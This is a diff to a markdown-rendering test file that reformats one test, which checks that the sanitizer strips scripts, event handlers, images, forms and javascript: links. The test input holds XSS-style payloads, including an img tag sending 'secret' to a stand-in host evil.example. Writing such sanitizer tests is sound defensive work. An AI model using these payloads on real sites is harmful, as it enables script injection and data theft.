@@ -20,7 +20,9 @@ describe("Markdown rendering", () => {
   })
 
   it("drops scripts, event handlers, images, forms and javascript: links", () => {
-    const div = dom('<script>window.pwned = 1</script><img src="https://evil.example/x?d=secret" onerror="window.pwned=2"><form><input></form>[x](javascript:alert(1)) <a href="https://ok.example" onclick="1">ok</a>\n\n![alt](https://evil.example/leak)')
+    const div = dom(
+      '<script>window.pwned = 1</script><img src="https://evil.example/x?d=secret" onerror="window.pwned=2"><form><input></form>[x](javascript:alert(1)) <a href="https://ok.example" onclick="1">ok</a>\n\n![alt](https://evil.example/leak)',
+    )
     expect(div.querySelector("script, img, form, input, [onerror], [onclick]")).to.equal(null)
     const links = [...div.querySelectorAll("a")]
     expect(links.filter((a) => /^\s*javascript:/i.test(a.getAttribute("href") ?? ""))).to.deep.equal([])
